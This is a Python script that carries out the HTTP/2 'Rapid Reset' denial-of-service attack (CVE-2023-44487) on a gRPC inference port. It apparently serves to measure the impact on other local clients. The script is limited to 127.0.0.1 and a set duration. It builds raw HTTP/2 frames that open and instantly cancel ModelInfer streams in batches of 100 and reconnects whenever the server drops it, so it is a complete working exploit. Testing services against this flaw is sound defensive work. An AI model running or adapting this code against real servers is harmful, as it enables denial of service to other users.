#!/usr/bin/python3
"""HTTP/2 "Rapid Reset" (CVE-2023-44487) against a local gRPC port, to measure what it does to others.

Usage: rapid_reset.py PORT SECONDS REQUEST_FILE [SOURCE_ADDRESS]

Over plaintext HTTP/2 (prior knowledge), opens ModelInfer calls and cancels each at once: HEADERS,
DATA with the whole request (END_STREAM, so the server starts the call), then RST_STREAM CANCEL, in
batches of 100 streams a write. It reads and drops whatever the server sends, and reconnects whenever
the server closes the connection. Stops by itself after SECONDS; only 127.0.0.1 (from SOURCE_ADDRESS,
default 127.0.0.2, so that the server tells the attacker from other local clients). Prints one line:
streams sent, connections used, seconds. REQUEST_FILE holds one gRPC message as sent on the wire
(5-byte prefix and protobuf), e.g. the one the load scripts write for iris.

Frame layout: RFC 9113 section 4.1; HPACK literals without indexing: RFC 7541 section 6.2.2.
"""
import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block():
    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
              (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers")]
    block = b""
    for name, value in fields:
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


def read_some(sock, most):
    data = sock.recv(most)
    if not data:
        raise ConnectionError("the server closed the connection before its SETTINGS")
    return data


def connect(port, source):
    sock = socket.create_connection(("127.0.0.1", port), source_address=(source, 0))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    # the server's SETTINGS comes first: acknowledge it, then drop everything that follows
    head = b""
    while len(head) < 9:
        head += read_some(sock, 9 - len(head))
    length = int.from_bytes(head[:3], "big")
    while length > 0:
        length -= len(read_some(sock, length))
    sock.sendall(frame(SETTINGS, ACK, 0))
    sock.setblocking(False)
    return sock


def main():
    port, seconds, request_file = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.2"
    with open(request_file, "rb") as f:
        message = f.read()
    block = header_block()
    sent, connections = 0, 0
    start = time.monotonic()
    sock, stream = None, 1
    while time.monotonic() - start < seconds:
        if sock is None:
            try:
                sock, stream = connect(port, source), 1
            except OSError:
                continue
            connections += 1
        batch = bytearray()
        for _ in range(BATCH):
            batch += frame(HEADERS, END_HEADERS, stream, block)
            batch += frame(DATA, END_STREAM, stream, message)
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        try:
            sock.setblocking(True)
            sock.sendall(batch)
            sock.setblocking(False)
            sent += BATCH
            while True:  # drop what the server sent; an empty read means it closed the connection
                if not sock.recv(1 << 16):
                    raise ConnectionError
        except BlockingIOError:
            pass
        except OSError:
            sock.close()
            sock = None
        if sock is not None and stream > (1 << 30):
            sock.close()
            sock = None
    print(f"rapid reset: {sent} streams on {connections} connections in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
